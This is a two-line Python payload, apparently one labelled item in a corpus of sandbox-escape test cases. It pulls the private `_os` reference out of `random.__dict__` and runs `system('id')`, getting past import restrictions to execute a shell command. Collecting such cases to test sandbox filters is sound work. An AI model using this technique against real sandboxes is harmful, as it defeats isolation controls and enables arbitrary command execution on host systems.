# family: A (a dunder in `from M import ...`)   goal: id
from random import __dict__ as g
g["_os"].system("id")
